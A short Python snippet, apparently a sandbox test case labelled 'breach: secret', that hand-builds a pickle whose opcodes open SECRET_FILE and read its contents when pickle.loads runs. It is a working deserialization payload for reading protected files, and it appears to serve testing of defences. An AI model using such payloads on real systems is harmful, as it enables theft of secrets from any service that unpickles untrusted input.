# A pickle that opens a file for its bytes.
# breach: secret
import pickle
pickle.loads(b"c_io\nopen\n(V" + SECRET_FILE.encode() + b"\ntR.").read()
